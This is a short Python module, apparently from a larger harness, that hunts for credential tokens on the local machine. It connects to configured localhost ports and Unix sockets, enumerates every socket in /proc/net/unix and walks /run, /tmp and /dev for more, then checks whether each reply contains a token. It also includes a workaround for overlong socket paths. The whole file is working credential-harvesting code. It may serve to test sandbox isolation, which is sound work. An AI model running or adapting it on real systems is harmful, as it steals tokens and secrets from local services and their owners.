"""Dials whoever hands out tokens on this machine."""
import os
import socket
import stat

from asks import exchange
from theft import GIVEN, attempt, stolen


def reach():
    for port in GIVEN["ports"]:
        attempt(f"reach port {port['name']}", lambda: stolen(exchange(b"", ("127.0.0.1", port["port"]))))
    for name in GIVEN["sockets"]:
        attempt(f"reach socket {name}", lambda: stolen(exchange(b"", address_of(name), socket.AF_UNIX)))
    attempt("reach sockets that are listed", reach_listed)
    attempt("reach sockets that lie about", reach_found)


def address_of(name):
    """Paths may be longer than addresses of sockets."""
    if not name.startswith("/"):
        return name.replace("@", "\0", 1)
    return f"/proc/self/fd/{os.open(os.path.dirname(name), os.O_PATH)}/{os.path.basename(name)}"


def reach_listed():
    with open("/proc/net/unix") as table:
        names = [words[7] for words in (line.split() for line in table) if len(words) > 7]
    for name in names:
        try:
            held = stolen(exchange(b"", address_of(name), socket.AF_UNIX, 0.3))
        except OSError:
            continue
        if held:
            return f"{name}: {held}"


def reach_found():
    for top in ("/run", "/tmp", "/dev", GIVEN["folder"]):
        for folder, _, names in os.walk(top):
            for name in names:
                path = os.path.join(folder, name)
                try:
                    if stat.S_ISSOCK(os.lstat(path).st_mode) and (held := stolen(exchange(b"", address_of(path), socket.AF_UNIX, 0.3))):
                        return f"{path}: {held}"
                except OSError:
                    continue
